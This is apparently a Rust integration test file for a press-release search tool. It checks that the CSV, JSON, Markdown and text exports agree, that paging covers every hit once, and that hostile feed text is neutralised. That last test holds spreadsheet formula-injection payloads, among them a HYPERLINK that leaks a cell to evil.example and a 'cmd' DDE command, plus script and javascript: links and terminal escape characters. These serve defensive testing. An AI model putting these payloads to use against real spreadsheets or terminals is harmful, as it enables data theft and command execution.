//! `search --format text|json|ndjson|csv|markdown` and `--all-results` (issue 14): every format
//! prints the same hits, the CSV reads back into what the JSON says, hostile feed text is
//! neutralised in CSV and Markdown and never reaches the terminal raw, and pages cover every
//! hit once.

use std::collections::BTreeSet;
use std::time::{Duration, SystemTime};

use pressdex::wire;

use crate::util::{Run, Sandbox, bundled_feed, fixture};

/// A sandbox whose index `idx` holds the bundled snapshot, copied to `feeds/cbp.xml` and dated
/// 2023-09-28 12:00 UTC, so provenance (snapshot name, first and last seen) is the same on
/// every machine.
fn bundled() -> Sandbox {
    let sandbox = Sandbox::new();
    let feed = sandbox.write("feeds/cbp.xml", std::fs::read(bundled_feed()).expect("bundled feed"));
    let fetched = SystemTime::UNIX_EPOCH + Duration::from_secs(1_695_902_400);
    std::fs::File::options()
        .write(true)
        .open(&feed)
        .and_then(|file| file.set_modified(fetched))
        .expect("set the snapshot's fetch time");
    // Indexed at a fixed time, so `indexed_at` and `changed_at` are the same on every machine.
    let mut index = sandbox.command();
    index.env("PRESSDEX_NOW", "2024-05-01T08:00:00Z");
    index.args(["index", "feeds/cbp.xml", "--index", "idx"]);
    let run = crate::util::run(index);
    assert!(run.success(), "{}", run.stderr());
    sandbox
}

/// `text` with the sandbox's absolute path (provenance records canonical paths) cut to the
/// path inside it: `/tmp/.tmpXYZ/feeds/cbp.xml` is `feeds/cbp.xml` on every machine.
fn portable(sandbox: &Sandbox, text: &str) -> String {
    let root = std::fs::canonicalize(sandbox.path()).expect("the sandbox exists");
    text.replace(&format!("{}/", root.display()), "")
}

fn hostile() -> Sandbox {
    let sandbox = Sandbox::new();
    let feed = fixture("hostile/formulas.xml");
    let run = sandbox.run_idx([std::ffi::OsStr::new("index"), feed.as_os_str()]);
    assert!(run.success(), "{}", run.stderr());
    sandbox
}

/// The hits of `search ARGS --json` (NDJSON).
fn hits(sandbox: &Sandbox, args: &[&str]) -> Vec<wire::Hit> {
    let run = sandbox.run_idx([&["search", "--json"], args].concat());
    run.json_lines()
        .into_iter()
        .map(|line| serde_json::from_value(line).expect("a wire::Hit"))
        .collect()
}

/// The rows of a CSV output, header first.
fn csv_rows(run: &Run) -> Vec<Vec<String>> {
    let mut reader =
        csv::ReaderBuilder::new().has_headers(false).from_reader(run.stdout.as_slice());
    reader
        .records()
        .map(|row| row.expect("an RFC 4180 row").iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn the_csv_reads_back_into_what_the_json_says() {
    let sandbox = bundled();
    let args = ["customs", "--all-results"];
    let json = hits(&sandbox, &args);
    assert!(json.len() > 5, "{json:?}");
    let run = sandbox.run_idx([&["search", "--format", "csv"], &args[..]].concat());
    assert_eq!(run.code, Some(0), "{}", run.stderr());
    assert!(run.stdout().contains("\r\n"), "RFC 4180 ends records with CRLF");
    let rows = csv_rows(&run);
    assert_eq!(
        rows[0],
        [
            "date",
            "title",
            "feed",
            "kind",
            "countries",
            "agreements",
            "evidence",
            "link",
            "guid",
            "first_seen",
            "last_seen",
            "revisions",
            "score"
        ]
    );
    assert_eq!(rows.len() - 1, json.len(), "one row per hit");
    for (row, hit) in rows[1..].iter().zip(&json) {
        let date = hit.published.map(|at| at.0.format("%Y-%m-%d").to_string()).unwrap_or_default();
        let countries: Vec<&str> = hit.countries.iter().map(|c| c.name.as_str()).collect();
        let mut codes: Vec<&str> = hit.agreements.iter().map(|a| a.code.as_str()).collect();
        codes.dedup();
        let mut evidence: Vec<&str> = Vec::new();
        for agreement in &hit.agreements {
            if !evidence.contains(&agreement.evidence.as_str()) {
                evidence.push(&agreement.evidence);
            }
        }
        let expected = [
            date,
            hit.title.clone(),
            hit.feed.clone(),
            hit.kind.clone(),
            countries.join("; "),
            codes.join("; "),
            evidence.join("\n"),
            hit.link.clone(),
            hit.guid.clone(),
            hit.provenance.first_seen.to_string(),
            hit.provenance.last_seen.to_string(),
            hit.provenance.revisions.to_string(),
        ];
        assert_eq!(row[..12], expected, "{}", hit.guid);
        let score: f32 = row[12].parse().expect("a score");
        assert!((score - hit.score).abs() < 1e-4, "{} {score} {}", hit.guid, hit.score);
    }
}

#[test]
fn every_format_lists_the_same_hits() {
    let sandbox = bundled();
    let args = ["mutual assistance agreement", "--limit", "4", "--offset", "1"];
    let ndjson: Vec<String> = hits(&sandbox, &args).into_iter().map(|hit| hit.guid).collect();
    assert_eq!(ndjson.len(), 4);

    let document = sandbox.run_idx([&["search", "--format", "json"], &args[..]].concat());
    let document: wire::SearchResults = serde_json::from_slice(&document.stdout).expect("JSON");
    let guids: Vec<String> = document.hits.iter().map(|hit| hit.guid.clone()).collect();
    assert_eq!(guids, ndjson);
    assert_eq!(
        (document.offset, document.limit, document.sort.as_str()),
        (1, Some(4), "relevance")
    );
    assert!(document.total >= 5 && document.matched_all_words <= document.total);

    let csv = csv_rows(&sandbox.run_idx([&["search", "--format", "csv"], &args[..]].concat()));
    let guids: Vec<String> = csv[1..].iter().map(|row| row[8].clone()).collect();
    assert_eq!(guids, ndjson);

    let markdown = sandbox.run_idx([&["search", "--format", "markdown"], &args[..]].concat());
    let markdown = markdown.stdout();
    let (table, sources) = markdown.split_once("\n## Sources\n").expect("a Sources section");
    let numbers: Vec<&str> = table
        .lines()
        .filter(|line| {
            line.starts_with("| ") && !line.starts_with("| #") && !line.starts_with("| -")
        })
        .map(|line| line.split(" | ").next().unwrap_or_default())
        .collect();
    assert_eq!(numbers, ["| 2", "| 3", "| 4", "| 5"], "numbered after the offset:\n{markdown}");
    let cited: Vec<&str> = sources.lines().filter(|line| !line.is_empty()).collect();
    assert_eq!(cited.len(), 4, "{sources}");
    for (line, hit) in cited.iter().zip(&document.hits) {
        assert!(line.contains(&hit.link), "{line} cites {}", hit.link);
        assert!(line.ends_with(" at 2023-09-28T12:00:00Z."), "{line}");
    }

    let text = sandbox.run_idx([&["search", "--color", "never"], &args[..]].concat()).stdout();
    for hit in &document.hits {
        assert!(text.contains(&hit.link), "{text}");
    }
}

#[test]
fn all_results_streams_every_match_in_order() {
    let sandbox = bundled();
    for sort in ["relevance", "date"] {
        let all = hits(&sandbox, &["agreement", "--sort", sort, "--all-results"]);
        let zero = hits(&sandbox, &["agreement", "--sort", sort, "--limit", "0"]);
        let total = sandbox.run_idx(["search", "agreement", "--format", "json", "--limit", "1"]);
        let total: wire::SearchResults = serde_json::from_slice(&total.stdout).expect("JSON");
        let guids = |hits: &[wire::Hit]| -> Vec<String> {
            hits.iter().map(|hit| hit.guid.clone()).collect()
        };
        assert_eq!(all.len() as u64, total.total, "{sort}");
        assert_eq!(guids(&all), guids(&zero), "{sort}");
        // Pages of three, one after the other, cover every hit exactly once, in the same order.
        let mut paged = Vec::new();
        for offset in (0..all.len() + 3).step_by(3) {
            let offset = offset.to_string();
            paged.extend(hits(
                &sandbox,
                &["agreement", "--sort", sort, "--limit", "3", "--offset", &offset],
            ));
        }
        assert_eq!(guids(&paged), guids(&all), "{sort}");
        let distinct: BTreeSet<String> = guids(&paged).into_iter().collect();
        assert_eq!(distinct.len(), all.len(), "{sort}: no hit twice");
    }
}

#[test]
fn the_footer_says_what_is_shown_and_how_to_see_more() {
    let sandbox = bundled();
    let footer = |args: &[&str]| -> String {
        let run = sandbox.run_idx([&["search", "--color", "never"], args].concat());
        run.stdout().lines().last().unwrap_or_default().to_string()
    };
    let all = hits(&sandbox, &["customs", "--all-results"]).len();
    let first = footer(&["customs", "--limit", "3"]);
    assert!(first.starts_with(&format!("showing 1–3 of {all} releases in ")), "{first}");
    assert!(first.ends_with(" ms; --offset 3 for more"), "{first}");
    let last = footer(&["customs", "--limit", "3", "--offset", &(all - 2).to_string()]);
    assert!(
        last.starts_with(&format!("showing {}–{all} of {all} releases in ", all - 1)),
        "{last}"
    );
    assert!(last.ends_with(" ms"), "{last}");
    let words = footer(&["cabo verde brazil", "--limit", "1"]);
    assert!(words.contains(" releases (all words: "), "{words}");
}

#[test]
fn hostile_text_is_neutralised_in_csv_and_markdown() {
    let sandbox = hostile();
    let run = sandbox.run_idx(["search", "customs agreement", "--all-results", "--format", "csv"]);
    assert_eq!(run.code, Some(0), "{}", run.stderr());
    let rows = csv_rows(&run);
    assert_eq!(rows.len(), 5, "a header and the four releases");
    for row in &rows[1..] {
        for (column, cell) in row.iter().enumerate() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "column {column} would run as a formula: {cell:?}"
            );
            assert!(!cell.contains(['\u{1b}', '\u{7}', '\u{202e}']), "column {column}: {cell:?}");
        }
    }
    let titles: Vec<&str> = rows[1..].iter().map(|row| row[1].as_str()).collect();
    assert!(
        titles.contains(&"'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")"),
        "{titles:?}"
    );
    assert!(titles.iter().any(|title| title.starts_with("'-2+3 CBP, Mexico")), "{titles:?}");
    assert!(titles.iter().any(|title| title.starts_with("'@SUM(1+1)")), "{titles:?}");
    assert!(rows[1..].iter().all(|row| row[2] == "'=cmd|' /C calc'!A0 Feed"), "the feed title");
    let minus = rows.iter().find(|row| row[1].starts_with("'-2+3")).expect("the -2+3 row");
    assert!(minus[6].starts_with("'-2+3"), "the evidence sentence too: {:?}", minus[6]);
    assert!(!run.stdout().contains(['\u{1b}', '\u{7}']), "no escape reaches the terminal");

    let markdown =
        sandbox.run_idx(["search", "customs agreement", "--all-results", "--format", "markdown"]);
    assert_eq!(markdown.code, Some(0));
    let markdown = markdown.stdout();
    assert!(!markdown.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{markdown:?}");
    assert!(!markdown.contains("javascript:alert(document"), "a javascript: link is never a link");
    assert!(!markdown.contains("<script>"), "{markdown}");
    for line in markdown.lines().filter(|line| line.starts_with("| ")) {
        // Six columns: seven pipes that are not escaped.
        let unescaped =
            line.match_indices('|').filter(|(at, _)| !line[..*at].ends_with('\\')).count();
        assert_eq!(unescaped, 7, "{line}");
    }
    assert!(markdown.contains("\\=HYPERLINK"), "{markdown}");

    for format in ["text", "json", "ndjson"] {
        let run = sandbox.run_idx([
            "search",
            "customs agreement",
            "--all-results",
            "--color",
            "never",
            "--format",
            format,
        ]);
        assert_eq!(run.code, Some(0), "{format}");
        assert!(
            !run.stdout().contains(['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}']),
            "{format}: {:?}",
            run.stdout()
        );
    }
}

/// `text` with what a run's timing changes replaced: the footer's milliseconds.
pub(crate) fn redacted(text: &str) -> String {
    text.lines()
        .map(|line| match (line.rfind(" in "), line.find(" ms")) {
            (Some(at), Some(ms)) if line.starts_with("showing ") && ms > at => {
                format!("{} in [time]{}", &line[..at], &line[ms + 3..])
            }
            _ => line.to_string(),
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// The score column, which rounding may change between machines, replaced.
fn csv_without_scores(run: &Run) -> String {
    let rows = csv_rows(run);
    let mut writer = csv::Writer::from_writer(Vec::new());
    for (index, row) in rows.iter().enumerate() {
        let mut row = row.clone();
        if index > 0 {
            row[12] = "[score]".to_string();
        }
        writer.write_record(&row).expect("writes");
    }
    String::from_utf8(writer.into_inner().expect("flushes")).expect("UTF-8")
}

#[test]
fn export_snapshots() {
    let sandbox = bundled();
    let search = |format: &str| {
        sandbox.run_idx([
            "search",
            "mutual assistance agreement",
            "--limit",
            "3",
            "--color",
            "never",
            "--format",
            format,
        ])
    };
    insta::assert_snapshot!("export_text", redacted(&search("text").stdout()));
    insta::assert_snapshot!("export_markdown", portable(&sandbox, &search("markdown").stdout()));
    insta::assert_snapshot!("export_csv", csv_without_scores(&search("csv")));
    let mut document: serde_json::Value =
        serde_json::from_str(&portable(&sandbox, &search("json").stdout())).expect("JSON");
    for hit in document["hits"].as_array_mut().expect("hits") {
        hit["score"] = serde_json::Value::from("[score]");
    }
    insta::assert_json_snapshot!("export_json", document);
    let ndjson: Vec<serde_json::Value> = portable(&sandbox, &search("ndjson").stdout())
        .lines()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).expect("JSON"))
        .map(|mut hit| {
            hit["score"] = serde_json::Value::from("[score]");
            hit
        })
        .collect();
    insta::assert_json_snapshot!("export_ndjson", ndjson);
    let show =
        |format: &str| sandbox.run_idx(["show", "427630", "--color", "never", "--format", format]);
    insta::assert_snapshot!("show_text", portable(&sandbox, &show("text").stdout()));
    insta::assert_snapshot!("show_markdown", portable(&sandbox, &show("markdown").stdout()));
    let shown: serde_json::Value =
        serde_json::from_str(&portable(&sandbox, &show("json").stdout())).expect("JSON");
    insta::assert_json_snapshot!("show_json", shown);
    let facets =
        |args: &[&str]| sandbox.run_idx([&["facets", "--color", "never"], args].concat()).stdout();
    insta::assert_snapshot!(
        "facets_agreement_by_country",
        facets(&["--field", "agreement", "--by", "country"])
    );
    insta::assert_snapshot!("facets_kind_by_year", facets(&["--field", "kind", "--by", "year"]));
    insta::assert_snapshot!("facets_months", facets(&["--field", "date"]));
}
